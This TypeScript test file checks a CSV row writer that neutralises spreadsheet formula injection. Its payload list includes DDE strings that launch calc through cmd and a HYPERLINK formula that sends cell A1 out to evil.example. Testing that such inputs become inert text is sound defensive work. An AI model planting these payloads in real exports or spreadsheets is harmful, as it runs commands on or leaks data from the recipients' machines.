import { parse } from 'csv-parse/sync';
import * as fc from 'fast-check';
import { expect, test } from 'vitest';

import { csvRow } from '../../../src/platform/lines/csv-row.ts';

/** Payloads of published lists of CSV injections. */
const FORMULAS = [
  '=1+1',
  "=cmd|'/C calc'!A0",
  '=HYPERLINK("https://evil.example?x="&A1,"Error")',
  "+1+cmd|' /C calc'!A0",
  '+8613800138000',
  "-2+3+cmd|' /C calc'!A0",
  '-1)',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '＝1+1',
  '＠SUM(1)',
];

test('a text is quoted, and a quote in it is doubled', () => {
  expect(csvRow(['a', 'b,c', 'say "hello"', 'two\r\nlines', '分佣', ''])).toBe('"a","b,c","say ""hello""","two\r\nlines","分佣",""\r\n');
});

test('a number and a null stand bare', () => {
  expect(csvRow([1n, -9_007_199_254_740_993n, 0, -3, null])).toBe('1,-9007199254740993,0,-3,\r\n');
});

test('an amount below zero stays a number', () => {
  expect(csvRow(['-12.34', '-5'])).toBe('"-12.34","-5"\r\n');
});

test.each(FORMULAS)('%j is text to a spreadsheet', (formula) => {
  expect(parse(csvRow([formula, 'next']))).toEqual([[`'${formula}`, 'next']]);
});

test('whatever the texts, the reader finds the same cells and no formula', () => {
  fc.assert(
    fc.property(fc.array(fc.string({ unit: 'binary' }), { minLength: 1, maxLength: 5 }), (texts) => {
      const rows: string[][] = parse(csvRow(texts) + csvRow(texts), { record_delimiter: '\r\n' });
      expect(rows).toHaveLength(2);
      const [cells = []] = rows;
      expect(cells.map((cell, at) => (cell === `'${texts[at]}` ? cell.slice(1) : cell))).toEqual(texts);
      for (const cell of cells) expect(/^\s*[=+@]/.test(cell)).toBe(false);
    }),
  );
});
